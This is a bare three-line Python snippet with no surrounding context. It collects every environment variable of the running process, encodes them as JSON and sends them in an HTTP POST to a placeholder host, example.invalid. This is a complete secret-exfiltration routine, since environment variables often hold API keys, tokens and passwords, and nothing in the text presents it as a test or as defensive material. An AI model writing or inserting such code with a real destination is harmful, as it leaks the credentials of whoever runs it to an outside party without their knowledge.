import os, json, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://example.invalid/e", data=body)
